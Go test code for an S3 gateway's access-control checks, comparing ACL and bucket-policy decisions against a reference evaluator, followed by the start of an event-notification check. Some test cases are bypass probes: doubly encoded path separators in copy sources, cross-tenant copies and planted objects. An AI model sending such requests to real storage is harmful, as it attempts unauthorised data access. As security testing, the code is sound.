	Effect     string
	Principals []string
	Actions    []string
	Resources  []string // without the arn:aws:s3::: prefix
}

// refGlob: '*' matches any run of characters (including none), '?' exactly one.
func refGlob(patStr, sStr string) bool {
	// '?' and '*' stand for characters, not for bytes of their encoding
	pat, s := []rune(patStr), []rune(sStr)
	// DP over pattern × subject
	m := make([][]bool, len(pat)+1)
	for i := range m {
		m[i] = make([]bool, len(s)+1)
	}
	m[0][0] = true
	for i := 1; i <= len(pat); i++ {
		if pat[i-1] == '*' {
			m[i][0] = m[i-1][0]
		}
		for j := 1; j <= len(s); j++ {
			switch pat[i-1] {
			case '*':
				m[i][j] = m[i-1][j] || m[i][j-1]
			case '?':
				m[i][j] = m[i-1][j-1]
			default:
				m[i][j] = m[i-1][j-1] && pat[i-1] == s[j-1]
			}
		}
	}
	return m[len(pat)][len(s)]
}

func refActionMatch(pat, action string) bool {
	if pat == "s3:*" || pat == action {
		return true
	}
	if strings.HasSuffix(pat, "*") {
		return strings.HasPrefix(action, strings.TrimSuffix(pat, "*"))
	}
	return false
}

func (st refStmt) matches(principal, action, resource string) bool {
	pm, am, rm := false, false, false
	for _, p := range st.Principals {
		if p == "*" || p == principal {
			pm = true
		}
	}
	for _, a := range st.Actions {
		if refActionMatch(a, action) {
			am = true
		}
	}
	for _, r := range st.Resources {
		if refGlob(r, resource) {
			rm = true
		}
	}
	return pm && am && rm
}

// refPolicyAllows: at least one Allow matches and no Deny matches.
func refPolicyAllows(stmts []refStmt, principal, action, resource string) bool {
	allow := false
	for _, st := range stmts {
		if st.matches(principal, action, resource) {
			if st.Effect == "Deny" {
				return false
			}
			allow = true
		}
	}
	return allow
}

func (st refStmt) json() map[string]any {
	var res []string
	for _, r := range st.Resources {
		res = append(res, "arn:aws:s3:::"+r)
	}
	return map[string]any{"Effect": st.Effect, "Principal": st.Principals, "Action": st.Actions, "Resource": res}
}

func policyDoc(stmts []refStmt) []byte {
	var ss []map[string]any
	for _, s := range stmts {
		ss = append(ss, s.json())
	}
	b, _ := json.Marshal(map[string]any{"Statement": ss})
	return b
}

// ---- access arrangements --------------------------------------------------

type arrangement struct {
	Name string
	// Policy builds the statements for this endpoint's (action, resource); nil ⇒ no policy (ACL decides)
	Policy func(action, resource, bucket string) []refStmt
	// ACL grant headers for PutBucketAcl (nil ⇒ private)
	Grants []string
	// reference ACL: permission → grantees ("all-users" for the group)
	ACL map[string][]string
}

func c03Arrangements() []arrangement {
	both := func(b string) []string { return []string{b, b + "/*"} }
	return []arrangement{
		{Name: "private"},
		{Name: "acl-read", Grants: []string{"x-amz-grant-read", "usr3"}, ACL: map[string][]string{"READ": {"usr3"}}},
		{Name: "acl-write", Grants: []string{"x-amz-grant-write", "usr3"}, ACL: map[string][]string{"WRITE": {"usr3"}}},
		{Name: "acl-read-acp", Grants: []string{"x-amz-grant-read-acp", "usr3"}, ACL: map[string][]string{"READ_ACP": {"usr3"}}},
		{Name: "acl-write-acp", Grants: []string{"x-amz-grant-write-acp", "usr3"}, ACL: map[string][]string{"WRITE_ACP": {"usr3"}}},
		{Name: "acl-full-control", Grants: []string{"x-amz-grant-full-control", "usr3"}, ACL: map[string][]string{"FULL_CONTROL": {"usr3"}}},
		{Name: "acl-public-read", Grants: []string{"x-amz-acl", "public-read"}, ACL: map[string][]string{"READ": {"all-users"}}},
		{Name: "acl-public-read-write", Grants: []string{"x-amz-acl", "public-read-write"}, ACL: map[string][]string{"READ": {"all-users"}, "WRITE": {"all-users"}}},
		{Name: "policy-exact", Policy: func(a, r, b string) []refStmt {
			return []refStmt{{"Allow", []string{"usr3"}, []string{a}, []string{r}}}
		}},
		{Name: "policy-sibling-object-only", Policy: func(a, r, b string) []refStmt {
			if !strings.Contains(r, "/") {
				return nil
			}
			return []refStmt{{"Allow", []string{"usr3"}, []string{a}, []string{b + "/some-other-key"}}}
		}},
		{Name: "policy-allow-all-deny-this", Policy: func(a, r, b string) []refStmt {
			return []refStmt{{"Allow", []string{"usr3"}, []string{"s3:*"}, both(b)}, {"Deny", []string{"usr3"}, []string{a}, both(b)}}
		}},
		{Name: "policy-deny-first-then-allow-all", Policy: func(a, r, b string) []refStmt {
			return []refStmt{{"Deny", []string{"*"}, []string{a}, both(b)}, {"Allow", []string{"usr3"}, []string{"s3:*"}, both(b)}}
		}},
		{Name: "policy-other-principal", Policy: func(a, r, b string) []refStmt {
			return []refStmt{{"Allow", []string{"usr2"}, []string{"s3:*"}, both(b)}}
		}},
		{Name: "policy-allow-all", Policy: func(a, r, b string) []refStmt {
			return []refStmt{{"Allow", []string{"usr3"}, []string{"s3:*"}, both(b)}}
		}},
		{Name: "policy-star-principal-exact", Policy: func(a, r, b string) []refStmt {
			return []refStmt{{"Allow", []string{"*"}, []string{a}, []string{r}}}
		}},
		{Name: "policy-glob-dir-only", Policy: func(a, r, b string) []refStmt {
			return []refStmt{{"Allow", []string{"usr3"}, []string{"s3:*"}, []string{b, b + "/dir/*"}}}
		}},
		{Name: "policy-allow-all-deny-object-glob", Policy: func(a, r, b string) []refStmt {
			return []refStmt{{"Allow", []string{"usr3"}, []string{"s3:*"}, both(b)}, {"Deny", []string{"usr3"}, []string{"s3:*"}, []string{b + "/obj?"}}}
		}},
		{Name: "policy-wrong-kind-only", Policy: func(a, r, b string) []refStmt {
			// everything allowed on the OTHER kind of resource only (s3:* is valid with any resource kind)
			if strings.Contains(r, "/") {
				return []refStmt{{"Allow", []string{"usr3"}, []string{"s3:*"}, []string{b}}}
			}
			return []refStmt{{"Allow", []string{"usr3"}, []string{"s3:*"}, []string{b + "/*"}}}
		}},
	}
}

func aclAllows(arr arrangement, owner, caller string, perms []string) bool {
	if caller == owner {
		return true
	}
	has := func(perm string) bool {
		for _, g := range arr.ACL[perm] {
			if g == caller || g == "all-users" {
				return true
			}
		}
		return false
	}
	for _, g := range arr.ACL["FULL_CONTROL"] {
		if g == caller {
			return true
		}
	}
	for _, p := range perms {
		if has(p) {
			return true
		}
	}
	return false
}

func denied(resp *gw.Resp) bool {
	// HEAD responses carry no error document
	return resp.Err == nil && resp.Status == 403 && (resp.ErrCode() == "AccessDenied" || len(resp.Body) == 0)
}

// C03: endpoint × caller × access arrangement × target, against refAllow.
func C03(r *ck.Run) {
	r.Rule("every S3 endpoint shape × caller (owner, grant/policy subject usr3, unrelated user usr2, userplus non-owner up1) × access arrangement (8 ACLs, 10 policy shapes instantiated for the endpoint's own action and resource) × target bucket (the arranged bucket, another tenant's bucket), plus batch-delete and copy multi-target cases; distinct = (config, arrangement, endpoint, caller, target)")
	r.Assume("a request the reference denies must be answered 403 AccessDenied (501 NotImplemented is admitted for operations the gateway does not implement), leave the storage byte-identical and return no canary; the converse (allowed ⇒ success) is not demanded, only counted")
	cfgs := []gw.Opts{{Versioning: true}}
	if r.Thorough() {
		cfgs = append(cfgs, gw.Opts{}, gw.Opts{Sidecar: true})
	}
	arrs := c03Arrangements()
	eps := Endpoints()
	callers := []gw.Creds{cUsr3, cUsr2, cUp, cUsr1}
	r.Sharded(16, func() {
		idx := 0
		for ci, cfg := range cfgs {
			var w *World
			fresh := func() {
				if w != nil {
					w.Close()
				}
				w = NewWorld("c03", cfg)
			}
			fresh()
			for _, arr := range arrs {
				for ei := range eps {
					ep := &eps[ei]
					if ep.Level != "bucket" && ep.Level != "object" {
						continue
					}
					if !ep.Applicable(w) || ep.ID == "CreateBucket" {
						continue
					}
					idx++
					if !r.Mine(idx) {
						continue
					}
					for _, target := range []string{"own", "other"} {
						// the arrangement is always put on the arranged bucket; target "other" sends the request to another tenant's bucket
						fresh()
						valid := ep.Build(w, "")
						bucket := strings.SplitN(strings.TrimPrefix(valid.Path, "/"), "/", 2)[0]
						key := ""
						if ep.ObjRes {
							key = w.Key
							if ep.Key != nil {
								key = ep.Key(w)
							}
							if bucket == w.LockBkt {
								key = "locked"
							}
						}
						resource := bucket
						if key != "" {
							resource = bucket + "/" + key
						}
						var stmts []refStmt
						if arr.Policy != nil {
							stmts = arr.Policy(ep.Action, resource, bucket)
							if stmts == nil {
								continue
							}
							resp := w.F.Do(gw.Root, "PUT", "/"+bucket, "policy", nil, policyDoc(stmts))
							if !resp.OK() {
								// the gateway refuses this document (e.g. action/resource kind mismatch): arrangement not expressible
								r.Add("arrangements_refused_on_put", 1)
								continue
							}
						} else if arr.Grants != nil {
							if bucket == w.LockBkt {
								Must(w.F.Do(gw.Root, "PUT", "/"+bucket, "ownershipControls", nil, []byte("<OwnershipControls><Rule><ObjectOwnership>BucketOwnerPreferred</ObjectOwnership></Rule></OwnershipControls>")), "ownership")
							}
							Must(w.F.Do(gw.Root, "PUT", "/"+bucket, "acl", H(arr.Grants...), nil), "put acl "+arr.Name)
						}
						base := w.F.G.Snapshot(gw.SnapOpts{IgnoreTmp: true})
						for _, c := range callers {
							var req *gw.Req
							var allow bool
							if target == "own" {
								req = valid.Clone()
								if arr.Policy != nil {
									allow = refPolicyAllows(stmts, c.Access, ep.Action, resource)
								} else {
									allow = aclAllows(arr, "usr1", c.Access, ep.Perms)
								}
							} else {
								// same request shape against the other tenant's bucket (private, owner usr2)
								req = ep.Build(w, w.Other)
								if ep.Key == nil && ep.Level == "object" {
									req.Path = gw.ObjPath(w.Other, "secret")
								}
								if ep.ID == "DeleteObjects" {
									req.Body = []byte("<Delete><Object><Key>secret</Key></Object></Delete>")
								}
								allow = c.Access == "usr2"
								if ep.ID == "ListParts" || ep.ID == "UploadPart" || ep.ID == "UploadPartCopy" || ep.ID == "AbortMultipartUpload" || ep.ID == "CompleteMultipartUpload" {
									continue // the upload id belongs to the arranged bucket
								}
							}
							gw.Sign(req, c, gw.SignOpts{})
							resp := w.F.G.Do(req)
							r.Add("evaluations", 1)
							r.Distinct(fmt.Sprintf("%d|%s|%s|%s|%s", ci, arr.Name, ep.ID, c.Access, target))
							after := w.F.G.Snapshot(gw.SnapOpts{IgnoreTmp: true})
							diff := base.Diff(after, 6)
							if allow {
								r.Add("allowed_cases", 1)
								if resp.OK() {
									r.Add("allowed_and_succeeded", 1)
								}
								r.Outcome(fmt.Sprintf("allow:%d", resp.Status/100))
							} else {
								r.Outcome(fmt.Sprintf("deny:%d", resp.Status))
								var an []string
								if !denied(resp) && resp.Status != 501 {
									if resp.Err != nil || resp.Status < 400 {
										an = append(an, fmt.Sprintf("succeeded-%d", resp.Status))
									} else {
										an = append(an, "not-AccessDenied:"+resp.ErrCode())
									}
								}
								if len(diff) > 0 {
									an = append(an, "state-changed")
								}
								for _, cn := range w.Canaries() {
									if resp.Err == nil && (bytes.Contains(resp.Body, []byte(cn)) || strings.Contains(fmt.Sprint(resp.Header), cn)) {
										an = append(an, "data-disclosed")
										break
									}
								}
								if len(an) > 0 {
									sig := ck.JoinSig(ep.ID, arr.Name, "caller="+roleC03(c), "target="+target, strings.Join(an, "+"))
									if len(an) == 1 && strings.HasPrefix(an[0], "not-AccessDenied:") {
										// refused, nothing changed or disclosed, but with another error: one class per endpoint and code
										sig = ck.JoinSig(ep.ID, "refused-with-other-error", an[0])
									}
									r.Violation(sig, map[string]any{
										"config": fmt.Sprintf("%+v", cfg), "arrangement": arr.Name, "policy": string(policyDoc(stmts)), "grants": arr.Grants, "endpoint": ep.ID, "action": ep.Action,
										"resource": resource, "caller": c.Access, "request": req.String(), "headers": req.Headers, "response": resp.String(), "state_diff": diff})
								}
							}
							if len(diff) > 0 {
								// restore: rebuild the world and the arrangement
								fresh()
								if arr.Policy != nil {
									w.F.Do(gw.Root, "PUT", "/"+bucket, "policy", nil, policyDoc(stmts))
								} else if arr.Grants != nil {
									if bucket == w.LockBkt {
										w.F.Do(gw.Root, "PUT", "/"+bucket, "ownershipControls", nil, []byte("<OwnershipControls><Rule><ObjectOwnership>BucketOwnerPreferred</ObjectOwnership></Rule></OwnershipControls>"))
									}
									w.F.Do(gw.Root, "PUT", "/"+bucket, "acl", H(arr.Grants...), nil)
								}
								valid = ep.Build(w, "")
								base = w.F.G.Snapshot(gw.SnapOpts{IgnoreTmp: true})
							}
						}
					}
				}
			}
			c03Multi(r, cfg, ci)
			w.Close()
		}
	})
	if !r.IsWorker() && r.Get("allowed_and_succeeded") == 0 {
		ck.Fatal("vacuous: no allowed request succeeded")
	}
}

func roleC03(c gw.Creds) string {
	switch c.Access {
	case "usr1":
		return "owner"
	case "usr3":
		return "subject"
	case "usr2":
		return "other-tenant"
	case "up1":
		return "userplus"
	}
	return c.Access
}

// c03Multi: per-key decisions of batch delete and both sides of a copy.
func c03Multi(r *ck.Run, cfg gw.Opts, ci int) {
	if r.IsWorker() && r.ShardI != 0 {
		return
	}
	type mcase struct {
		Name  string
		Stmts func(w *World) []refStmt
		Req   func(w *World) *gw.Req
		// Protected: snapshot keys that must be unchanged / canaries that must not show up in dst
		ProtectedPaths []string
		NoCanaryIn     string // object (bucket/key) that must not contain another tenant's canary afterwards
		// Caller defaults to usr3 (policy subject); Grants are PutBucketAcl headers on the arranged bucket;
		// NoNewIn: no file may appear below this snapshot prefix
		Caller  *gw.Creds
		Grants  []string
		NoNewIn string
		// MustDeny: the reference evaluator denies the request outright (explicit Deny of its action)
		MustDeny bool
	}
	both := func(b string) []string { return []string{b, b + "/*"} }
	cases := []mcase{
		{Name: "DeleteObjects allowed-then-denied", ProtectedPaths: []string{"root:bk-main/obj1"},
			Stmts: func(w *World) []refStmt {
				return []refStmt{{"Allow", []string{"usr3"}, []string{"s3:DeleteObject"}, []string{w.Bucket + "/dir/*"}}}
			},
			Req: func(w *World) *gw.Req {
				return NewReq("POST", "/"+w.Bucket, "delete", nil, []byte("<Delete><Object><Key>dir/obj2</Key></Object><Object><Key>obj1</Key></Object></Delete>"))
			}},
		{Name: "DeleteObjects denied-then-allowed", ProtectedPaths: []string{"root:bk-main/obj1"},
			Stmts: func(w *World) []refStmt {
				return []refStmt{{"Allow", []string{"usr3"}, []string{"s3:DeleteObject"}, []string{w.Bucket + "/dir/*"}}}
			},
			Req: func(w *World) *gw.Req {
				return NewReq("POST", "/"+w.Bucket, "delete", nil, []byte("<Delete><Object><Key>obj1</Key></Object><Object><Key>dir/obj2</Key></Object></Delete>"))
			}},
		{Name: "DeleteObjects allow-all-deny-one", ProtectedPaths: []string{"root:bk-main/obj1"},
			Stmts: func(w *World) []refStmt {
				return []refStmt{{"Allow", []string{"usr3"}, []string{"s3:*"}, both(w.Bucket)}, {"Deny", []string{"usr3"}, []string{"s3:DeleteObject"}, []string{w.Bucket + "/obj1"}}}
			},
			Req: func(w *World) *gw.Req {
				return NewReq("POST", "/"+w.Bucket, "delete", nil, []byte("<Delete><Object><Key>dir/obj2</Key></Object><Object><Key>obj1</Key></Object></Delete>"))
			}},
		{Name: "DeleteObjects allow-all-deny-one, denied key first", ProtectedPaths: []string{"root:bk-main/obj1"},
			Stmts: func(w *World) []refStmt {
				return []refStmt{{"Allow", []string{"usr3"}, []string{"s3:*"}, both(w.Bucket)}, {"Deny", []string{"usr3"}, []string{"s3:DeleteObject"}, []string{w.Bucket + "/obj1"}}}
			},
			Req: func(w *World) *gw.Req {
				return NewReq("POST", "/"+w.Bucket, "delete", nil, []byte("<Delete><Object><Key>obj1</Key></Object><Object><Key>dir/obj2</Key></Object></Delete>"))
			}},
		{Name: "DeleteObjects allow-all-deny-one, denied key in the middle", ProtectedPaths: []string{"root:bk-main/obj1"},
			Stmts: func(w *World) []refStmt {
				return []refStmt{{"Allow", []string{"usr3"}, []string{"s3:*"}, both(w.Bucket)}, {"Deny", []string{"usr3"}, []string{"s3:DeleteObject"}, []string{w.Bucket + "/obj1"}}}
			},
			Req: func(w *World) *gw.Req {
				return NewReq("POST", "/"+w.Bucket, "delete", nil, []byte("<Delete><Object><Key>nosuchkey</Key></Object><Object><Key>obj1</Key></Object><Object><Key>dir/obj2</Key></Object></Delete>"))
			}},
		// the decision is taken on the name that is read: a source spelled with a doubly encoded separator
		{Name: "CopyObject source-under-denied-prefix, separator doubly encoded", NoCanaryIn: "bk-main/stolen2",
			Stmts: func(w *World) []refStmt {
				return []refStmt{{"Allow", []string{"usr3"}, []string{"s3:*"}, both(w.Bucket)}, {"Deny", []string{"usr3"}, []string{"s3:GetObject"}, []string{w.Bucket + "/dir/*"}}}
			},
			Req: func(w *World) *gw.Req {
				return NewReq("PUT", gw.ObjPath(w.Bucket, "stolen2"), "", H("x-amz-copy-source", w.Bucket+"/dir%252Fobj2"), nil)
			}},
		{Name: "CopyObject source-under-denied-prefix, separator encoded", NoCanaryIn: "bk-main/stolen3",
			Stmts: func(w *World) []refStmt {
				return []refStmt{{"Allow", []string{"usr3"}, []string{"s3:*"}, both(w.Bucket)}, {"Deny", []string{"usr3"}, []string{"s3:GetObject"}, []string{w.Bucket + "/dir/*"}}}
			},
			Req: func(w *World) *gw.Req {
				return NewReq("PUT", gw.ObjPath(w.Bucket, "stolen3"), "", H("x-amz-copy-source", w.Bucket+"/dir%2Fobj2"), nil)
			}},
		{Name: "CopyObject source-in-other-tenant-bucket", NoCanaryIn: "bk-main/stolen",
			Stmts: func(w *World) []refStmt {
				return []refStmt{{"Allow", []string{"usr3"}, []string{"s3:*"}, both(w.Bucket)}}
			},
			Req: func(w *World) *gw.Req {
				return NewReq("PUT", gw.ObjPath(w.Bucket, "stolen"), "", H("x-amz-copy-source", w.Other+"/secret"), nil)
			}},
		{Name: "CopyObject source-key-denied-in-same-bucket", NoCanaryIn: "bk-main/dir/stolen",
			Stmts: func(w *World) []refStmt {
				return []refStmt{{"Allow", []string{"usr3"}, []string{"s3:*"}, []string{w.Bucket, w.Bucket + "/dir/*"}}}
			},
			Req: func(w *World) *gw.Req {
				return NewReq("PUT", gw.ObjPath(w.Bucket, "dir/stolen"), "", H("x-amz-copy-source", w.Bucket+"/obj1"), nil)
			}},
		{Name: "CopyObject source-key-denied-exactly, source named with a versionId", NoCanaryIn: "bk-main/dir/stolen",
			Stmts: func(w *World) []refStmt {
				return []refStmt{{"Allow", []string{"usr3"}, []string{"s3:*"}, both(w.Bucket)}, {"Deny", []string{"usr3"}, []string{"s3:*"}, []string{w.Bucket + "/obj1"}}}
			},
			Req: func(w *World) *gw.Req {
				// a real version id where the gateway has a versioning directory
				vid := "null"
				if w.F.G.Opts.Versioning {
					Must(w.F.Do(gw.Root, "PUT", "/"+w.Bucket, "versioning", nil, []byte("<VersioningConfiguration><Status>Enabled</Status></VersioningConfiguration>")), "enable versioning")
					vid = Must(w.F.Put(gw.Root, w.Bucket, "obj1", []byte(canaryObj1+" second version")), "second version").Header.Get("x-amz-version-id")
				}
				return NewReq("PUT", gw.ObjPath(w.Bucket, "dir/stolen"), "", H("x-amz-copy-source", w.Bucket+"/obj1?versionId="+vid), nil)
			}},
		// reading a version is decided on s3:GetObjectVersion, whichever request reads it
		{Name: "CopyObject from a version, s3:GetObjectVersion denied", NoCanaryIn: "bk-main/dir/stolen-version", MustDeny: true,
			Stmts: func(w *World) []refStmt {
				return []refStmt{{"Allow", []string{"usr3"}, []string{"s3:*"}, both(w.Bucket)}, {"Deny", []string{"usr3"}, []string{"s3:GetObjectVersion"}, []string{w.Bucket + "/*"}}}
			},
			Req: func(w *World) *gw.Req {
				return NewReq("PUT", gw.ObjPath(w.Bucket, "dir/stolen-version"), "", H("x-amz-copy-source", w.Bucket+"/obj1?versionId="+c03Version(w)), nil)
			}},
		{Name: "UploadPartCopy from a version, s3:GetObjectVersion denied", MustDeny: true,
			Stmts: func(w *World) []refStmt {
				return []refStmt{{"Allow", []string{"usr3"}, []string{"s3:*"}, both(w.Bucket)}, {"Deny", []string{"usr3"}, []string{"s3:GetObjectVersion"}, []string{w.Bucket + "/*"}}}
			},
			Req: func(w *World) *gw.Req {
				return NewReq("PUT", gw.ObjPath(w.Bucket, w.MpKey), gw.Q("uploadId", w.UploadID, "partNumber", "2"), H("x-amz-copy-source", w.Bucket+"/obj1?versionId="+c03Version(w)), nil)
			}},
		{Name: "HeadObject of a version, s3:GetObjectVersion denied", MustDeny: true,
			Stmts: func(w *World) []refStmt {
				return []refStmt{{"Allow", []string{"usr3"}, []string{"s3:*"}, both(w.Bucket)}, {"Deny", []string{"usr3"}, []string{"s3:GetObjectVersion"}, []string{w.Bucket + "/*"}}}
			},
			Req: func(w *World) *gw.Req {
				return NewReq("HEAD", gw.ObjPath(w.Bucket, "obj1"), gw.Q("versionId", c03Version(w)), nil, nil)
			}},
		{Name: "GetObject of a version, s3:GetObjectVersion denied", MustDeny: true,
			Stmts: func(w *World) []refStmt {
				return []refStmt{{"Allow", []string{"usr3"}, []string{"s3:*"}, both(w.Bucket)}, {"Deny", []string{"usr3"}, []string{"s3:GetObjectVersion"}, []string{w.Bucket + "/*"}}}
			},
			Req: func(w *World) *gw.Req {
				return NewReq("GET", gw.ObjPath(w.Bucket, "obj1"), gw.Q("versionId", c03Version(w)), nil, nil)
			}},
		{Name: "CopyObject destination-denied", ProtectedPaths: []string{"root:bk-main/obj1"},
			Stmts: func(w *World) []refStmt {
				return []refStmt{{"Allow", []string{"usr3"}, []string{"s3:*"}, []string{w.Bucket, w.Bucket + "/dir/*"}}}
			},
			Req: func(w *World) *gw.Req {
				return NewReq("PUT", gw.ObjPath(w.Bucket, "obj1"), "", H("x-amz-copy-source", w.Bucket+"/dir/obj2"), nil)
			}},
		{Name: "UploadPartCopy source-in-other-tenant-bucket",
			Stmts: func(w *World) []refStmt {
				return []refStmt{{"Allow", []string{"usr3"}, []string{"s3:*"}, both(w.Bucket)}}
			},
			Req: func(w *World) *gw.Req {
				return NewReq("PUT", gw.ObjPath(w.Bucket, w.MpKey), gw.Q("uploadId", w.UploadID, "partNumber", "2"), H("x-amz-copy-source", w.Other+"/secret"), nil)
			}},
	}
	// the destination is the caller's through ownership or an ACL grant (no policy anywhere): the access the
	// caller has on one bucket must not be applied to the other bucket of the request
	for _, how := range []struct {
		Name   string
		Caller gw.Creds
		Grants []string
	}{{"by-destination-owner", cUsr1, nil}, {"by-acl-full-control-grantee", cUsr3, []string{"x-amz-grant-full-control", "usr3"}}, {"by-acl-read-write-grantee", cUsr3, []string{"x-amz-grant-read", "usr3", "x-amz-grant-write", "usr3"}}} {
		how := how
		cases = append(cases,
			mcase{Name: "CopyObject source-in-other-tenant-bucket " + how.Name, NoCanaryIn: "bk-main/stolen", Caller: &how.Caller, Grants: how.Grants,
				Req: func(w *World) *gw.Req {
					return NewReq("PUT", gw.ObjPath(w.Bucket, "stolen"), "", H("x-amz-copy-source", w.Other+"/secret"), nil)
				}},
			mcase{Name: "UploadPartCopy source-in-other-tenant-bucket " + how.Name, Caller: &how.Caller, Grants: how.Grants,
				Req: func(w *World) *gw.Req {
					return NewReq("PUT", gw.ObjPath(w.Bucket, w.MpKey), gw.Q("uploadId", w.UploadID, "partNumber", "2"), H("x-amz-copy-source", w.Other+"/secret"), nil)
				}},
			mcase{Name: "CopyObject destination-in-other-tenant-bucket " + how.Name, Caller: &how.Caller, Grants: how.Grants, NoNewIn: "root:bk-other/",
				Req: func(w *World) *gw.Req {
					return NewReq("PUT", gw.ObjPath(w.Other, "planted"), "", H("x-amz-copy-source", w.Bucket+"/obj1"), nil)
				}},
			mcase{Name: "CopyObject overwrite-in-other-tenant-bucket " + how.Name, Caller: &how.Caller, Grants: how.Grants, ProtectedPaths: []string{"root:bk-other/secret"},
				Req: func(w *World) *gw.Req {
					return NewReq("PUT", gw.ObjPath(w.Other, "secret"), "", H("x-amz-copy-source", w.Bucket+"/obj1"), nil)
				}},
		)
	}
	for _, mc := range cases {
		w := NewWorld("c03m", cfg)
		var stmts []refStmt
		if mc.Stmts != nil {
			stmts = mc.Stmts(w)
			Must(w.F.Do(gw.Root, "PUT", "/"+w.Bucket, "policy", nil, policyDoc(stmts)), "put policy "+mc.Name)
		}
		if mc.Grants != nil {
			Must(w.F.Do(gw.Root, "PUT", "/"+w.Bucket, "acl", H(mc.Grants...), nil), "put acl "+mc.Name)
		}
		caller := cUsr3
		if mc.Caller != nil {
			caller = *mc.Caller
		}
		base := w.F.G.Snapshot(gw.SnapOpts{IgnoreTmp: true})
		req := mc.Req(w)
		gw.Sign(req, caller, gw.SignOpts{})
		resp := w.F.G.Do(req)
		after := w.F.G.Snapshot(gw.SnapOpts{IgnoreTmp: true})
		r.Add("evaluations", 1)
		r.Distinct(fmt.Sprintf("%d|multi|%s", ci, mc.Name))
		var an []string
		for _, p := range mc.ProtectedPaths {
			if base[p] != after[p] {
				an = append(an, "protected-object-changed")
			}
		}
		// no canary of another key/tenant anywhere new
		for k, v := range after {
			if base[k] == v {
				continue
			}
			if mc.NoNewIn != "" && strings.HasPrefix(k, mc.NoNewIn) && !strings.Contains(k, ".sgwtmp") {
				an = append(an, "object-created-in-unauthorised-bucket")
			}
			if strings.HasPrefix(k, "root:") {
				data := readSnapFile(w, k)
				if bytes.Contains(data, []byte(canaryOther)) || (mc.NoCanaryIn != "" && strings.HasSuffix(k, mc.NoCanaryIn) && (bytes.Contains(data, []byte(canaryObj1)) || bytes.Contains(data, []byte(canaryObj2)))) {
					an = append(an, "unauthorised-source-copied")
				}
			}
		}
		if resp.Err == nil && bytes.Contains(resp.Body, []byte(canaryOther)) {
			an = append(an, "data-disclosed")
		}
		if mc.MustDeny && (resp.Err != nil || resp.Status < 400) {
			an = append(an, "explicitly-denied-request-answered-"+fmt.Sprint(resp.Status))
		}
		r.Outcome(fmt.Sprintf("multi:%d", resp.Status))
		if len(an) > 0 {
			r.Violation(ck.JoinSig("multi", mc.Name, strings.Join(an, "+")), map[string]any{"config": fmt.Sprintf("%+v", cfg), "case": mc.Name, "policy": string(policyDoc(stmts)),
				"request": req.String(), "headers": req.Headers, "body": string(req.Body), "response": resp.String(), "state_diff": base.Diff(after, 8)})
		}
		w.Close()
	}
}

// c03Version: the id of an older version of obj1 where the gateway keeps versions, else the null version.
func c03Version(w *World) string {
	if !w.F.G.Opts.Versioning {
		return "null"
	}
	Must(w.F.Do(gw.Root, "PUT", "/"+w.Bucket, "versioning", nil, []byte("<VersioningConfiguration><Status>Enabled</Status></VersioningConfiguration>")), "enable versioning")
	vid := Must(w.F.Put(gw.Root, w.Bucket, "obj1", []byte(canaryObj1+" a version")), "a version").Header.Get("x-amz-version-id")
	Must(w.F.Put(gw.Root, w.Bucket, "obj1", []byte("newest version")), "newest version")
	return vid
}

func readSnapFile(w *World, snapKey string) []byte {
	rel := strings.TrimPrefix(snapKey, "root:")
	b, _ := readFileMax(w.F.G.Root+"/"+rel, 1<<20)
	return b
}
