package checks

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"sync"
	"time"

	"github.com/valyala/fasthttp"
	"github.com/versity/versitygw/s3event"

	"verif/ck"
	"verif/gw"
	"verif/sched"
)

func init() { Registry["C19"] = C19 }

// evSink is a loopback webhook endpoint collecting every posted event document.
type evSink struct {
	mu   sync.Mutex
	recs []s3event.EventRecord
	ln   net.Listener
	srv  *http.Server
}

func newEvSink() *evSink {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		ck.Fatal("sink listen: %v", err)
	}
	s := &evSink{ln: ln}
	s.srv = &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		var sc s3event.EventSchema
		if json.Unmarshal(b, &sc) == nil {
			s.mu.Lock()
			s.recs = append(s.recs, sc.Records...)
			s.mu.Unlock()
		}
		w.WriteHeader(200)
	})}
	go s.srv.Serve(ln)
	return s
}

func (s *evSink) URL() string { return "http://" + s.ln.Addr().String() + "/hook" }
func (s *evSink) Close()      { s.srv.Close() }
func (s *evSink) take() []s3event.EventRecord {
	if sched.Detached.Load() > 0 {
		// the sender works through a long-lived worker of its own: wait until nothing has arrived for a while
		last, stable := -1, 0
		for i := 0; i < 100 && stable < 6; i++ {
			time.Sleep(50 * time.Millisecond)
			s.mu.Lock()
			n := len(s.recs)
			s.mu.Unlock()
			if n == last {
				stable++
			} else {
				last, stable = n, 0
			}
		}
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	out := s.recs
	s.recs = nil
	return out
}

type c19Filter struct {
	Name string
	F    s3event.EventFilter
}

func c19Filters() []c19Filter {
	all := []s3event.EventType{s3event.EventObjectCreatedPut, s3event.EventObjectCreatedCopy, s3event.EventCompleteMultipartUpload, s3event.EventObjectRemovedDelete,
		s3event.EventObjectRemovedDeleteObjects, s3event.EventObjectTaggingPut, s3event.EventObjectTaggingDelete}
	fs := []c19Filter{{"none", nil}, {"empty", s3event.EventFilter{}},
		{"wildcards-on", s3event.EventFilter{s3event.EventObjectCreated: true, s3event.EventObjectRemoved: true, s3event.EventObjectTagging: true}},
		{"wildcards-off", s3event.EventFilter{s3event.EventObjectCreated: false, s3event.EventObjectRemoved: false, s3event.EventObjectTagging: false}},
		{"wildcard-on-put-off", s3event.EventFilter{s3event.EventObjectCreated: true, s3event.EventObjectCreatedPut: false, s3event.EventObjectRemoved: true, s3event.EventObjectRemovedDelete: false, s3event.EventObjectTagging: true, s3event.EventObjectTaggingPut: false}},
		{"wildcard-off-put-on", s3event.EventFilter{s3event.EventObjectCreated: false, s3event.EventObjectCreatedPut: true, s3event.EventObjectRemoved: false, s3event.EventObjectRemovedDelete: true}}}
	for _, e := range all {
		fs = append(fs, c19Filter{"only:" + string(e), s3event.EventFilter{e: true}}, c19Filter{"off:" + string(e), s3event.EventFilter{e: false, s3event.EventObjectCreated: true, s3event.EventObjectRemoved: true, s3event.EventObjectTagging: true}})
	}
	return fs
}

// refFilter: exact entry wins, then the family wildcard, default off; no filter configured = everything on.
func refFilter(f s3event.EventFilter, e s3event.EventType) bool {
	if f == nil {
		return true
	}
	if v, ok := f[e]; ok {
		return v
	}
	s := string(e)
